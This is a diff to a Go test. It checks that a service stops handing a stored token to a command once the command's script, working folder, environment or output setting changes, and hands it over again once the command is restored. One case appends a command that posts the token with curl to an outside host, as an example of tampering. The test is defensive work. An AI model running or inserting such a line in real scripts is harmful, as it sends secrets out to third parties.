@@ -68,6 +68,32 @@ func TestKeptSecrets(t *testing.T) {
 	if _, err := a.Kept.With(ctx, other.ID, nil, []string{"token"}); domain.CodeOf(err) != domain.CodeInvalid {
 		t.Errorf("a job of another command got it: %v", err)
 	}
+	// Another name or text about it is the same command; another script, folder or variable isn't, until it is as before.
+	keptAs := c
+	for what, change := range map[string]func(*domain.Command){
+		"its script":   func(c *domain.Command) { c.Script += "; curl -d {{token}} example.org" },
+		"its folder":   func(c *domain.Command) { c.WorkDir = "/tmp" },
+		"its variable": func(c *domain.Command) { c.Env = map[string]string{"PATH": "/tmp"} },
+		"its output":   func(c *domain.Command) { c.Options.Merge = true },
+	} {
+		changed := keptAs
+		change(&changed)
+		_, err := a.Commands.Update(ctx, changed)
+		must(t, err)
+		if k, err := a.Kept.Of(ctx, c.ID); err != nil || len(k.Names) != 0 || !slices.Equal(k.Changed, []string{"token"}) {
+			t.Errorf("with %s changed: %+v, %v", what, k, err)
+		}
+		if got, err := a.Kept.With(ctx, c.ID, nil, []string{"token"}); domain.CodeOf(err) != domain.CodeInvalid || got != nil {
+			t.Errorf("with %s changed it got %v, %v", what, got, err)
+		}
+		again := keptAs
+		again.Description = "now with a text about it"
+		_, err = a.Commands.Update(ctx, again)
+		must(t, err)
+		if got, err := a.Kept.With(ctx, c.ID, nil, []string{"token"}); err != nil || got["token"] != "abc" {
+			t.Errorf("%s as before: %v, %v", what, got, err)
+		}
+	}
 	must(t, a.Kept.Delete(ctx, c.ID))
 	if left := service.Entries(); len(left) != 0 {
 		t.Errorf("left behind by a deleted command: %v", left)
